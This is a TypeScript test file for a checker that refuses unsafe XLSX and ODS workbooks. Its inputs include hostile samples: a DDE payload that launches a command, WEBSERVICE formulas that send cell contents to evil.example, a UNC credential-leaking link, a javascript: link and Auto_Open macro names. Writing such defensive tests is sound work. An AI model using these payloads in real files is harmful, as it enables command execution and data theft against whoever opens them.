import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { findInjections } from '../src/injection.ts'
import { openWorkbook } from '../src/read/open.ts'
import { WorkbookRefused } from '../src/refused.ts'
import { partOf, withParts, xlsxOf } from './build.ts'

const simple = xlsxOf({ Sheet1: [['a', 1]] })
const sheetPath = 'xl/worksheets/sheet1.xml'

function codeOf(bytes: Uint8Array): string | undefined {
  try {
    openWorkbook(bytes)
  } catch (error) {
    if (error instanceof WorkbookRefused) return error.code
    throw error
  }
  return undefined
}

/** A sheet with something behind its cells. */
const behind = (xml: string): Uint8Array =>
  withParts(simple, { [sheetPath]: partOf(simple, sheetPath).replace('</worksheet>', `${xml}</worksheet>`) })

const format = (formula: string): string =>
  `<conditionalFormatting sqref="A1:A9"><cfRule type="expression" priority="1"><formula>${formula}</formula></cfRule></conditionalFormatting>`
const validation = (formula: string): string =>
  `<dataValidations><dataValidation type="list" sqref="B1"><formula1>${formula}</formula1></dataValidation></dataValidations>`
const extension = (formula: string): string =>
  `<extLst><ext><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule><xm:f>${formula}</xm:f></x14:cfRule>` +
  `<xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>`
const scale = (formula: string): string =>
  `<conditionalFormatting sqref="A1"><cfRule type="colorScale"><colorScale><cfvo type="formula" val="${formula}"/></colorScale></cfRule></conditionalFormatting>`

describe('formulas that stand in no cell', () => {
  test.each([
    ['a conditional format', format],
    ['a validation', validation],
    ['a format of a newer kind', extension],
    ['a scale of colors', scale],
  ])('%s may look at cells, and not out of the file', (_name, of) => {
    expect(codeOf(behind(of('$A$1&gt;AVERAGE($A$1:$A$9)')))).toBeUndefined()
    expect(codeOf(behind(of("'C:\\[Book.xlsx]S'!A1")))).toBe('external_links')
    expect(codeOf(behind(of('[1]S!A1')))).toBe('external_links')
    expect(codeOf(behind(of("cmd|'/c calc'!A1")))).toBe('dde')
  })

  test('what they call is found as in a cell', () => {
    const call = 'WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)'
    expect(findInjections(openWorkbook(behind(format(call) + validation(call))))).toMatchObject([
      { sheet: 'Sheet1', cell: 'A1:A9', rule: 'conditional format', code: 'reaches_out' },
      { sheet: 'Sheet1', cell: 'B1', rule: 'validation', code: 'reaches_out' },
    ])
    expect(findInjections(openWorkbook(behind(format('A1&gt;1') + validation('&quot;yes,no&quot;'))))).toEqual([])
  })

  test('names that start something, and print ranges that reach out', () => {
    const named = (more: string, refersTo: string): Uint8Array =>
      withParts(simple, {
        'xl/workbook.xml': partOf(simple, 'xl/workbook.xml').replace(
          '</sheets>',
          `</sheets><definedNames><definedName ${more}>${refersTo}</definedName></definedNames>`,
        ),
      })
    expect(codeOf(named('name="_xlnm.Print_Area"', 'Sheet1!$A$1'))).toBeUndefined()
    expect(codeOf(named('name="_xlnm.Print_Area"', '[1]Sheet1!$A$1'))).toBe('external_links')
    expect(codeOf(named('name="Auto_Open"', 'Sheet1!$A$1'))).toBe('macros')
    expect(codeOf(named('name="Go" vbProcedure="1"', 'Sheet1!$A$1'))).toBe('macros')
    expect(codeOf(named('name="Go"', 'Sheet1!$A$1'))).toBeUndefined()
  })
})

describe('parts of XLSX', () => {
  const relation = (type: string, target: string, mode = ''): Uint8Array =>
    withParts(simple, {
      'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships><Relationship Id="rId1" Type="http://schemas.example/${type}" Target="${target}"${mode}/></Relationships>`,
    })
  const external = ' TargetMode="External"'

  test.each([
    ['an embedded object', relation('oleObject', '../other/one.bin'), 'embedded'],
    ['an embedded file', withParts(simple, { 'xl/embeddings/report.docx': 'x' }), 'embedded'],
    ['a picture from elsewhere', relation('image', 'http://evil.example/a.png', external), 'external_links'],
    ['a picture of its own', relation('image', '../media/image1.png'), undefined],
    ['a link to a page', relation('hyperlink', 'https://club.example/', external), undefined],
    ['a link to another file', relation('hyperlink', 'minutes.docx', external), undefined],
    ['a link that runs something', relation('hyperlink', 'javascript:alert(1)', external), 'external_links'],
    ['a link that shows who pressed it', relation('hyperlink', '\\\\evil.example\\a', external), 'external_links'],
    ['an add-in', withParts(simple, { 'xl/webextensions/webextension1.xml': '<x/>' }), 'macros'],
    ['buttons of its own', withParts(simple, { 'customUI/customUI.xml': '<x/>' }), 'macros'],
    ['values from a service', withParts(simple, { 'xl/volatileDependencies.xml': '<x/>' }), 'external_links'],
    ['a data model', withParts(simple, { 'xl/model/item.data': 'x' }), 'external_links'],
    ['a query', withParts(simple, { 'customXml/item1.xml': '<DataMashup>UEsDB</DataMashup>' }), 'external_links'],
    ['XML of another program', withParts(simple, { 'customXml/item1.xml': '<club><id>7</id></club>' }), undefined],
    ['a macro behind a shape', withParts(simple, { 'xl/drawings/drawing1.xml': '<sp macro="[0]!Go"/>' }), 'macros'],
    ['a shape', withParts(simple, { 'xl/drawings/drawing1.xml': '<sp macro=""/>' }), undefined],
    [
      'an old picture',
      withParts(simple, { 'xl/drawings/v.vml': '<v:imagedata src="http://e.example/a"/>' }),
      'external_links',
    ],
    [
      'a chart of a file',
      withParts(simple, { 'xl/charts/chart1.xml': '<c><c:f>[1]A!$A$1</c:f></c>' }),
      'external_links',
    ],
    ['a chart of a name', withParts(simple, { 'xl/charts/chart1.xml': '<c><c:f>[0]!Sales</c:f></c>' }), undefined],
    ['a chart', withParts(simple, { 'xl/charts/chart1.xml': '<c><c:f>Sheet1!$A$1</c:f></c>' }), undefined],
  ])('%s', (_name, bytes, code) => {
    expect(codeOf(bytes)).toBe(code)
  })

  test('the same in UTF-16', () => {
    const bytes = Uint8Array.from([...'<DataMashup/>'].flatMap((letter) => [letter.charCodeAt(0), 0]))
    expect(codeOf(withParts(simple, { 'customXml/item1.xml': bytes }))).toBe('external_links')
  })
})

describe('ODS', () => {
  const odsOf = (content: string, before = '', more: Record<string, string> = {}): Uint8Array =>
    zipSync({
      mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet'),
      'content.xml': strToU8(
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">' +
          `${before}<office:body><office:spreadsheet>${content}</office:spreadsheet></office:body></office:document-content>`,
      ),
      ...Object.fromEntries(Object.entries(more).map(([path, text]) => [path, strToU8(text)])),
    })
  const table = (inner: string): string => `<table:table table:name="A">${inner}</table:table>`
  const condition = (formula: string): string =>
    `<table:content-validations><table:content-validation table:condition="of:cell-content-is-in-list(${formula})"/></table:content-validations>`

  test.each([
    ['nothing but cells', odsOf(table(''), '<office:scripts/>'), undefined],
    [
      'a script',
      odsOf(table(''), '<office:scripts><office:script script:language="Basic"/></office:scripts>'),
      'macros',
    ],
    [
      'a listener',
      odsOf(`<office:event-listeners><script:event-listener/></office:event-listeners>${table('')}`),
      'macros',
    ],
    ['a button that calls one', odsOf(table('<form:button xlink:href="vnd.sun.star.script:Go"/>')), 'macros'],
    ['a link that calls one', odsOf(table('<text:a xlink:href="vnd.sun.star.script:Go">x</text:a>')), 'macros'],
    ['one behind a key', odsOf(table(''), '', { 'Configurations2/a.xml': '<i xlink:href="macro:Go"/>' }), 'macros'],
    ['a link to a page', odsOf(table('<text:a xlink:href="https://club.example">x</text:a>')), undefined],
    ['an object', odsOf(table('<draw:object-ole xlink:href="./Object 1"/>')), 'embedded'],
    ['a chart', odsOf(table('<draw:object xlink:href="./Object 1"/>')), undefined],
    ['an object from elsewhere', odsOf(table('<draw:object xlink:href="file:///a.ods"/>')), 'external_links'],
    ['a picture', odsOf(table('<draw:image xlink:href="Pictures/1.png"/>')), undefined],
    [
      'a picture from elsewhere',
      odsOf(table('<draw:image xlink:href="http://evil.example/1.png"/>')),
      'external_links',
    ],
    [
      'a picture of the looks',
      odsOf(table(''), '', { 'styles.xml': '<s><f xlink:href="../1.png"/></s>' }),
      'external_links',
    ],
    ['a table from elsewhere', odsOf(table('<table:table-source xlink:href="a.ods"/>')), 'external_links'],
    ['a database', odsOf(table('<table:database-source-sql/>')), 'external_links'],
    ['another program', odsOf(`${table('')}<table:dde-links/>`), 'dde'],
    ['a validation', odsOf(condition('&quot;yes&quot;') + table('')), undefined],
    [
      'a validation that reaches out',
      odsOf(condition("'http://evil.example/a.ods'#$A.A1") + table('')),
      'external_links',
    ],
    ['a format that reaches out', odsOf(table('<calcext:condition calcext:value="[1]S!A1"/>')), 'external_links'],
  ])('%s', (_name, bytes, code) => {
    expect(codeOf(bytes)).toBe(code)
  })

  test('what a condition calls is found as in a cell', () => {
    const called = odsOf(condition('WEBSERVICE(&quot;http://evil.example/&quot;)') + table(''))
    expect(findInjections(openWorkbook(called))).toMatchObject([{ rule: 'validation', code: 'reaches_out' }])
  })
})
